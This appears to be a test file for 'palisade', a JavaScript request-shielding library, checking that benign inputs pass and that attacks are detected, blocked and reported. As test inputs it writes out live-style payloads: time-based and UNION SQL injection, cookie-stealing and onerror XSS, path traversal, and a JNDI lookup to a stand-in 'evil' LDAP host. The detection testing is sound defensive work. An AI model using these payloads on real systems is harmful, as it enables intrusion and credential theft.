// The shield through the built package: detectAttacks, the shield rule in protect() (the body is
// read from a clone, so the handler still reads it), per-client blocking with a manual clock, the
// field cases at-010..at-090, and hostile inputs that must get a bounded verdict.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import palisade, { detectAttacks, shield, ManualClock, denial } from 'palisade';

const has = (r, family, location) => r.findings.some((f) => f.family === family && (location === undefined || f.location === location));
const json = (body) => ({ url: '/api', method: 'POST', body: JSON.stringify(body), contentType: 'application/json' });

test('regression_at_010_to_050 benign JSON, newlines, markdown, Accept values and ids with -- pass', () => {
  const cases = [
    json({ parentId: '9L12rBWAt104N0zBgW10', children: [{ id: '9L12rBWAt104N0zBgW12', coordinates: '{"desktop":{"sizex":4,"sizey":6,"row":1,"col":5}}' }] }),
    json({ ljfhg: '\nMeasure' }),
    json({ text: '# company\n\n## Technik\n\n### Netzwerk Grünwald\n\n#### <Daten>' }),
    { url: '/', headers: { accept: 'image/*;q=0.8' } },
    json(['006--u-m4YIaIyga-cq8yK']),
    json({ name: "O'Brien", org: "Workers' Union (MMWS)", quote: 'She said "it\'s fine" -- twice' }),
  ];
  for (const c of cases) {
    const r = detectAttacks(c);
    assert.equal(r.attack, false, `${JSON.stringify(c).slice(0, 80)}: ${JSON.stringify(r.findings)}`);
  }
});

test('regression_at_060_to_090 attacks in a JSON value, a form field, a query arg and a path segment are found', () => {
  assert.ok(has(detectAttacks(json({ text: "') AND (SELECT 1970 FROM (SELECT(SLEEP(5)))pQyY)-- pLgG" })), 'sqli', 'body.text'));
  const form = detectAttacks({ url: '/login', method: 'POST', body: "user=%27%20OR%201%3D1%3B%27", contentType: 'application/x-www-form-urlencoded' });
  assert.ok(has(form, 'sqli', 'body.user'), JSON.stringify(form));
  assert.ok(has(detectAttacks({ url: '/?a=..\\secret' }), 'traversal', 'query.a'));
  for (const url of ['/id/365059-1)%20OR%20556=(SELECT%20556%20FROM%20PG_SLEEP(15))/', '/id/365059-1)%20OR%20556=(SELECT%20556%20FROM%20PG_SLEEP(15))']) {
    assert.ok(has(detectAttacks({ url }), 'sqli'), url);
  }
});

test('findings name the family, the location and a short redacted snippet', () => {
  const r = detectAttacks({ url: 'https://example.com/p?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', headers: [['referer', "x' UNION SELECT password FROM users--"]] });
  assert.equal(r.attack, true);
  assert.ok(has(r, 'xss', 'query.q'));
  assert.ok(has(r, 'sqli', 'header.referer'), JSON.stringify(r.findings));
  for (const f of r.findings) assert.ok(f.snippet.length <= 80 && f.score >= 0 && f.score <= 100);
});

test('hostile inputs get a bounded verdict, never a throw', () => {
  const deep = '['.repeat(10_000) + '"x"' + ']'.repeat(10_000);
  const inputs = [
    { url: '/', headers: { 'x-big': 'a'.repeat(1 << 20) } },
    { url: '/', method: 'POST', body: 'a'.repeat(10 << 20), contentType: 'text/plain' },
    { url: '/', method: 'POST', body: deep, contentType: 'application/json' },
    { url: '/', method: 'POST', body: Buffer.from([0xff, 0xfe, 0x27, 0x20, 0x4f, 0x52, 0xc3, 0x28]), contentType: 'text/plain' },
    { url: `/?${Array.from({ length: 100_000 }, (_, i) => `a${i}=${i}`).join('&')}` },
    { url: '/', method: 'POST', body: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\nno end', contentType: 'multipart/form-data; boundary=x' },
    { url: '\u0000\uD800%%%%' },
  ];
  for (const input of inputs) {
    const r = detectAttacks(input);
    assert.equal(typeof r.attack, 'boolean');
  }
  assert.equal(detectAttacks({ url: '/', method: 'POST', body: 'a'.repeat(10 << 20), contentType: 'text/plain' }).body, 'TRUNCATED');
});

test('shield() in protect(): attacks are denied, the handler can still read the body, benign JSON passes', async () => {
  const aj = palisade({ proxies: ['127.0.0.1'], rules: [shield({ threshold: 0 })] });
  assert.equal(aj.async, true);
  const post = (body) =>
    new Request('http://localhost/api/items', { method: 'POST', headers: { 'content-type': 'application/json', 'x-forwarded-for': '203.0.113.5' }, body: JSON.stringify(body) });
  const bad = post({ note: "1' UNION SELECT password FROM users--" });
  const d = await aj.protect(bad);
  assert.equal(d.isDenied(), true);
  assert.equal(d.reason.isShield(), true);
  assert.ok(d.reason.findings.some((f) => f.location === 'body.note'));
  assert.equal(d.reason.body, 'PARSED');
  assert.deepEqual(await bad.json(), { note: "1' UNION SELECT password FROM users--" }, 'nothing lost');
  const good = post({ name: "D'Angelo", text: 'Prices "from" $5 -- see below' });
  assert.equal((await aj.protect(good)).isAllowed(), true);
  assert.equal((await good.json()).name, "D'Angelo");
});

test('a client that keeps attacking is blocked for clean requests until blockFor ends', async () => {
  const clock = new ManualClock(1_000_000);
  const aj = palisade({ clock, proxies: ['127.0.0.1'], rules: [shield({ threshold: 2, blockFor: '5m', name: 'js-block' })] });
  const get = (q, ip = '198.51.100.20') => new Request(`http://localhost/?q=${encodeURIComponent(q)}`, { headers: { 'x-forwarded-for': ip } });
  assert.equal((await aj.protect(get('<script>alert(1)</script>'))).isDenied(), true);
  assert.equal((await aj.protect(get('shoes'))).isAllowed(), true);
  assert.equal((await aj.protect(get('<img src=x onerror=alert(1)>'))).isDenied(), true);
  const blocked = await aj.protect(get('shoes'));
  assert.equal(blocked.isDenied(), true);
  assert.equal(blocked.reason.blocked, true);
  assert.deepEqual(blocked.reason.findings, []);
  assert.equal(denial(blocked).headers['Retry-After'], '300');
  assert.equal((await aj.protect(get('shoes', '198.51.100.21'))).isAllowed(), true, 'other clients are not blocked');
  clock.advance(300_000);
  assert.equal((await aj.protect(get('shoes'))).isAllowed(), true, 'the block ended');
});

test('facts without a readable body use props.body; an already-read body is UNREADABLE, not an error', async () => {
  const aj = palisade({ rules: [shield({ threshold: 0 })] });
  const facts = { method: 'POST', path: '/x', headers: ['content-type', 'application/x-www-form-urlencoded'], peer: '203.0.113.9' };
  assert.equal((await aj.protect(facts, { body: 'q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D' })).isDenied(), true);
  // props.body as a view into a larger buffer: read from the view's own offset, not the buffer's start.
  const whole = Buffer.from('q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D');
  const first = new Uint8Array(whole.buffer, whole.byteOffset, whole.indexOf('&'));
  const tail = new Uint8Array(whole.buffer, whole.byteOffset + whole.indexOf('&') + 1, whole.length - whole.indexOf('&') - 1);
  assert.ok((await aj.protect(facts, { body: first })).reason.findings.some((f) => f.family === 'xss'));
  const families = (await aj.protect(facts, { body: tail })).reason.findings.map((f) => f.family);
  assert.deepEqual(families, ['jndi']);
  const used = new Request('http://localhost/x', { method: 'POST', body: 'hello' });
  await used.text();
  const d = await aj.protect(used);
  assert.equal(d.isAllowed(), true);
  assert.equal(d.reason.body, 'UNREADABLE');
});

test('a body that stops arriving is inspected as far as it came after bodyTimeoutMs and denied unless uninspected is ALLOW; the handler still reads it whole', async () => {
  const strict = palisade({ rules: [shield({ threshold: 0, bodyTimeoutMs: 20 })] });
  const lenient = palisade({ rules: [shield({ threshold: 0, bodyTimeoutMs: 20, uninspected: 'ALLOW' })] });
  // A stream that sends `first` (if any) at once and then nothing until the test says so.
  const stalled = (url, first) => {
    let controller;
    const body = new ReadableStream({
      start(c) {
        controller = c;
        if (first) c.enqueue(new TextEncoder().encode(first));
      },
    });
    const request = new Request(url, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body, duplex: 'half' });
    return { request, finish: (rest) => { controller.enqueue(new TextEncoder().encode(rest)); controller.close(); } };
  };
  // An attack sent at once, then a stall: what came is inspected (an attacker cannot hide an
  // attack by holding back the last byte).
  const held = stalled('http://localhost/comments', 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E');
  let d = await lenient.protect(held.request);
  assert.equal(d.isDenied(), true);
  assert.equal(d.reason.body, 'INCOMPLETE');
  assert.deepEqual(d.reason.caps, ['BODY_INCOMPLETE']);
  assert.ok(d.reason.findings.some((f) => f.family === 'xss' && f.location === 'body.q'));
  // Nothing is lost: the bytes that come late reach the route handler whole.
  held.finish('&z=1');
  assert.equal(await held.request.text(), 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&z=1');
  // A clean start and a stall: the rest was never inspected, so the default denies.
  d = await strict.protect(stalled('http://localhost/comments', 'q=shoes').request);
  assert.equal(d.isDenied(), true);
  assert.equal(d.reason.findings.length, 0);
  assert.deepEqual(d.reason.caps, ['BODY_INCOMPLETE']);
  // Nothing at all: the same; ALLOW lets both through, still reported, and the query is inspected.
  d = await strict.protect(stalled('http://localhost/comments').request);
  assert.equal(d.isDenied(), true);
  assert.equal(d.reason.body, 'INCOMPLETE');
  d = await lenient.protect(stalled('http://localhost/comments', 'q=shoes').request);
  assert.equal(d.isAllowed(), true);
  assert.equal(d.reason.body, 'INCOMPLETE');
  d = await lenient.protect(stalled('http://localhost/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E').request);
  assert.ok(d.reason.findings.some((f) => f.family === 'xss' && f.location === 'query.q'));
  assert.throws(() => shield({ bodyTimeoutMs: 0 }), (e) => e.code === 'PALISADE_CONFIG_RANGE' && /bodyTimeoutMs/.test(e.message));
  assert.throws(() => shield({ bodyTimeoutMs: 60_001 }), (e) => e.code === 'PALISADE_CONFIG_RANGE' && /60000/.test(e.message));
});

test('the body wait holds for a hand-made request whose read ignores cancel(), and a DRY_RUN rule never shortens a LIVE rule\'s wait', async () => {
  // A request-like object (protect() takes anything with clone() and body) whose read never settles.
  const stuck = {
    method: 'POST',
    url: 'http://localhost/x?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
    headers: new Headers({ 'content-type': 'text/plain' }),
    body: {},
    clone: () => ({ body: { getReader: () => ({ read: () => new Promise(() => {}), cancel: () => new Promise(() => {}) }) } }),
  };
  const d = await palisade({ rules: [shield({ threshold: 0, bodyTimeoutMs: 20 })] }).protect(stuck);
  assert.equal(d.reason.body, 'INCOMPLETE');
  assert.ok(d.reason.findings.some((f) => f.location === 'query.q'));
  // One whose read fails only after the wait ran out: no unhandled rejection.
  const unhandled = [];
  const onUnhandled = (e) => unhandled.push(e);
  process.on('unhandledRejection', onUnhandled);
  let fail;
  const failsLate = { ...stuck, clone: () => ({ body: { getReader: () => ({ read: () => new Promise((_, reject) => { fail = () => reject(new Error('late')); }), cancel: () => new Promise(() => {}) }) } }) };
  assert.equal((await palisade({ rules: [shield({ threshold: 0, bodyTimeoutMs: 20 })] }).protect(failsLate)).reason.body, 'INCOMPLETE');
  fail();
  await new Promise((resolve) => setImmediate(resolve));
  process.off('unhandledRejection', onUnhandled);
  assert.deepEqual(unhandled, []);
  // LIVE waits the default 5 s, the DRY_RUN rule only 20 ms: a body that comes after 60 ms is
  // still read whole for the LIVE rule.
  const aj = palisade({ rules: [shield({ threshold: 0 }), shield({ mode: 'DRY_RUN', threshold: 0, bodyTimeoutMs: 20, name: 'dry' })] });
  let controller;
  const late = new Request('http://localhost/f', { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new ReadableStream({ start(c) { controller = c; } }), duplex: 'half' });
  setTimeout(() => {
    controller.enqueue(new TextEncoder().encode('q=shoes'));
    controller.close();
  }, 60);
  const r = await aj.protect(late);
  assert.equal(r.isAllowed(), true);
  assert.equal(r.reason.body, 'PARSED');
});

test('bad shield options throw with a code and the key path', () => {
  assert.throws(() => shield({ threshold: -1 }), (e) => e.code === 'PALISADE_CONFIG_RANGE' && /threshold/.test(e.message));
  assert.throws(() => shield({ sensitivity: 'PARANOID' }), (e) => /^PALISADE_CONFIG_/.test(e.code) && /sensitivity/.test(e.message));
  assert.throws(() => shield({ blockFor: 'forever' }), (e) => e.code === 'PALISADE_CONFIG_INTERVAL');
  assert.throws(() => shield({ bogus: true }), (e) => e.code === 'PALISADE_CONFIG_UNKNOWN');
  assert.throws(() => detectAttacks(null), (e) => e.code === 'PALISADE_INVALID_REQUEST');
});

test('a body of any type gets a verdict from detectAttacks; a bad props.body is PALISADE_INVALID_PROPS, not a TypeError', async () => {
  for (const body of [5, { a: 1 }, true, new Uint8Array([60, 115, 99, 114, 105, 112, 116, 62]).subarray(0, 8)]) {
    const r = detectAttacks({ url: '/', body, contentType: 'text/plain' });
    assert.equal(typeof r.attack, 'boolean');
  }
  // A Uint8Array view is read from its own offset, not from the start of its buffer.
  const bytes = Buffer.from('xxxx<script>alert(1)</script>');
  assert.equal(detectAttacks({ url: '/', body: new Uint8Array(bytes.buffer, bytes.byteOffset + 4, bytes.length - 4), contentType: 'text/plain' }).attack, true);
  const aj = palisade({ rules: [shield({ threshold: 0 })] });
  // shield() makes protect() return promises, so misuse arrives as a rejection.
  await assert.rejects(aj.protect({ method: 'POST', path: '/', headers: [] }, { body: 5 }), (e) => e.code === 'PALISADE_INVALID_PROPS' && /props\.body/.test(e.message));
});

test('an attack hidden after 1,024 harmless values: detectAttacks reports the VALUES cap, the rule denies unless uninspected is ALLOW', async () => {
  const padded = '/items?' + Array.from({ length: 1100 }, (_, i) => `p${i}=x`).join('&') + '&id=1%27%20OR%201%3D1--';
  const r = detectAttacks({ url: padded });
  assert.equal(r.attack, false);
  assert.deepEqual(r.caps, ['VALUES']);
  assert.deepEqual(detectAttacks({ url: '/items?q=shoes' }).caps, []);
  const facts = { method: 'GET', path: '/items', query: padded.slice('/items?'.length), headers: [], peer: '203.0.113.5' };
  const strict = palisade({ rules: [shield({ threshold: 0 })] });
  const d = await strict.protect(facts);
  assert.equal(d.conclusion, 'DENY');
  assert.deepEqual(d.reason.caps, ['VALUES']);
  const lenient = palisade({ rules: [shield({ threshold: 0, uninspected: 'ALLOW' })] });
  const a = await lenient.protect(facts);
  assert.equal(a.conclusion, 'ALLOW');
  assert.deepEqual(a.reason.caps, ['VALUES']);
  assert.throws(() => shield({ uninspected: 'maybe' }), (e) => e.code?.startsWith('PALISADE_CONFIG') && e.message.includes('uninspected'));
});
